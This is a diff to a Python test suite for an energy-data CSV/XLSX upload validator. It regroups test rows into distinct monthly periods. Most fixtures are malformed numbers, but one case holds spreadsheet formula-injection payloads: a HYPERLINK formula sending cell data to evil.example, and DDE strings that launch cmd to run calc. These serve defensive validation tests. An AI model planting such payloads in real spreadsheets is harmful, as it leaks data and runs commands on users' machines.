@@ -104,6 +104,12 @@ def csv_bytes(
     return out.getvalue().encode(encoding)
 
 
+def monthly(*rows: dict[str, object]) -> list[dict[str, object]]:
+    """The rows as A1's months of 2024, one each, so that they do not collide: a file's problems are
+    told all at once, the rows' duplicate or overlapping periods too."""
+    return [r | {"period": f"2024-{number:02d}"} for number, r in enumerate(rows, start=1)]
+
+
 def csv_of(*rows: dict[str, str]) -> Callable[[], bytes]:
     return lambda: csv_bytes(list(rows))
 
@@ -638,10 +644,12 @@ CASES: list[Case] = [
             (5, "total_electricity", "“1.250.000,5”" + AMBIGUOUS),
         ],
         csv_of(
-            row(total_electricity="about 1000"),
-            row(onsite_renewable="一千"),
-            row(total_electricity="1,23,456"),
-            row(total_electricity="1.250.000,5"),
+            *monthly(
+                row(total_electricity="about 1000"),
+                row(onsite_renewable="一千"),
+                row(total_electricity="1,23,456"),
+                row(total_electricity="1.250.000,5"),
+            )
         ),
     ),
     Case(
@@ -655,10 +663,12 @@ CASES: list[Case] = [
             (5, "green_power_trading", not_a_number("Infinity")),
         ],
         csv_of(
-            row(total_electricity="NaN"),
-            row(gec="inf", certificate_ids="GEC-1"),
-            row(irec="-Infinity", certificate_ids="IREC-1"),
-            row(green_power_trading="Infinity"),
+            *monthly(
+                row(total_electricity="NaN"),
+                row(gec="inf", certificate_ids="GEC-1"),
+                row(irec="-Infinity", certificate_ids="IREC-1"),
+                row(green_power_trading="Infinity"),
+            )
         ),
     ),
     Case(
@@ -678,9 +688,11 @@ CASES: list[Case] = [
             (4, "total_electricity", "1.000E+400 MWh is implausibly large for one site; check the unit"),
         ],
         csv_of(
-            row(total_electricity="1,000,000", unit="GWh"),
-            row(total_electricity="1" + "0" * 30, unit="kWh"),
-            row(total_electricity="9" * 400),
+            *monthly(
+                row(total_electricity="1,000,000", unit="GWh"),
+                row(total_electricity="1" + "0" * 30, unit="kWh"),
+                row(total_electricity="9" * 400),
+            )
         ),
     ),
     Case(
@@ -691,7 +703,7 @@ CASES: list[Case] = [
             (2, "total_electricity", "has more decimal places than 0.000001 MWh (1 Wh)"),
             (3, "total_electricity", "has more decimal places than 0.000001 MWh (1 Wh)"),
         ],
-        csv_of(row(total_electricity="0.0005", unit="kWh"), row(total_electricity="1000." + "0" * 29 + "1")),
+        csv_of(*monthly(row(total_electricity="0.0005", unit="kWh"), row(total_electricity="1000." + "0" * 29 + "1"))),
     ),
     Case(
         "49-green-above-total.csv",
@@ -705,7 +717,7 @@ CASES: list[Case] = [
         ["R14", "R20"],
         "`bmw_share_percent` empty, and only a % sign",
         [(2, "bmw_share_percent", REQUIRED), (3, "bmw_share_percent", REQUIRED)],
-        csv_of(row(bmw_share_percent=""), row(bmw_share_percent="%", period="2023")),
+        csv_of(*monthly(row(bmw_share_percent=""), row(bmw_share_percent="%"))),
     ),
     Case(
         "51-bad-shares.csv",
@@ -718,10 +730,12 @@ CASES: list[Case] = [
             (5, "bmw_share_percent", not_a_number("一半")),
         ],
         csv_of(
-            row(bmw_share_percent="100.5"),
-            row(bmw_share_percent="-1"),
-            row(bmw_share_percent="33.33333"),
-            row(bmw_share_percent="一半"),
+            *monthly(
+                row(bmw_share_percent="100.5"),
+                row(bmw_share_percent="-1"),
+                row(bmw_share_percent="33.33333"),
+                row(bmw_share_percent="一半"),
+            )
         ),
         chinese={
             "must be between 0 and 100": "必须介于 0 到 100 之间",
@@ -779,8 +793,10 @@ CASES: list[Case] = [
             (5, "supplier_name", FORMULA),
         ],
         csv_of(
-            row(supplier_name='=HYPERLINK("http://evil.example/?"&A1,"Click")'),
-            row(site_name="+cmd|' /C calc'!A0", period="2024-Q1"),
+            *monthly(
+                row(supplier_name='=HYPERLINK("http://evil.example/?"&A1,"Click")'),
+                row(site_name="+cmd|' /C calc'!A0"),
+            ),
             row(site_code="A9", site_name="@SUM(1+1)*cmd|' /C calc'!A0", province="Jiangsu"),
             row(site_code="A8", supplier_name="-2+3+cmd|' /C calc'!A0", site_name="Hall 8", province="Jiangsu"),
         ),
@@ -793,7 +809,7 @@ CASES: list[Case] = [
             (2, "supplier_code", "Use up to 20 letters, digits, dots, dashes or underscores."),
             (3, "unit", "“@SUM(A1)” is not a unit: use kWh, MWh, GWh or 万kWh."),
         ],
-        csv_of(row(supplier_code="=1+1"), row(unit="@SUM(A1)", period="2023")),
+        csv_of(*monthly(row(supplier_code="=1+1"), row(unit="@SUM(A1)"))),
     ),
     Case(
         "59-one-bad-row-among-good.csv",
@@ -823,7 +839,7 @@ CASES: list[Case] = [
         lambda: csv_bytes(
             [
                 row(site_code="A9", site_name="九号车间", province="火星"),
-                row(bmw_share_percent="１２０", period="2023"),
+                row(bmw_share_percent="１２０", period="2024-02"),
             ],
             encoding="gbk",
         ),
@@ -884,9 +900,11 @@ CASES: list[Case] = [
         ],
         lambda: xlsx_bytes(
             xlsx_rows(
-                row(total_electricity=1000, bmw_share_percent=150),
-                row(total_electricity=__import__("datetime").date(2024, 3, 1), period="2024-Q1"),
-                row(total_electricity=1000, gec=1e300, certificate_ids="GEC-1", period="2024-Q2"),
+                *monthly(
+                    row(total_electricity=1000, bmw_share_percent=150),
+                    row(total_electricity=__import__("datetime").date(2024, 3, 1)),
+                    row(total_electricity=1000, gec=1e300, certificate_ids="GEC-1"),
+                )
             )
         ),
     ),
@@ -901,9 +919,11 @@ CASES: list[Case] = [
         ],
         lambda: xlsx_patched(
             xlsx_rows(
-                row(total_electricity=11111),
-                row(total_electricity=1000, onsite_renewable=22222, period="2024-Q1"),
-                row(total_electricity=1000, bmw_share_percent=33333, period="2024-Q2"),
+                *monthly(
+                    row(total_electricity=11111),
+                    row(total_electricity=1000, onsite_renewable=22222),
+                    row(total_electricity=1000, bmw_share_percent=33333),
+                )
             ),
             [
                 (b'<c r="I2" t="n"><v>11111</v>', b'<c r="I2" t="e"><v>#DIV/0!</v>'),
